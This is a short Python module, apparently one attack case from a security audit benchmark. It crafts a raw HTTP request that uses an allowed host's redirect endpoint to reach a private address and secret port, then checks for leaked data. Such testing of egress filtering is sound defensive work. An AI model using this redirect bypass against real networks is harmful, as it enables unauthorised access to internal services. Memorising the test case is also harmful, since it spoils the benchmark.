"""Has the allowed host redirect a request to a private address."""

from pacabench.audit.attacks.kit import ALLOWED, Found, Given, found, leaked, must_work, raw_http


def attack(given: Given) -> Found:
    """See above."""
    port = given["web_port"]
    must_work(port)
    target = f"{given['wan']}:{given['secret_port']}"
    line = f"GET http://{ALLOWED}/redirect/{target} HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n"
    seen = {"redirect": raw_http(port, line.encode())}
    return found(leaked(seen), answers=seen)
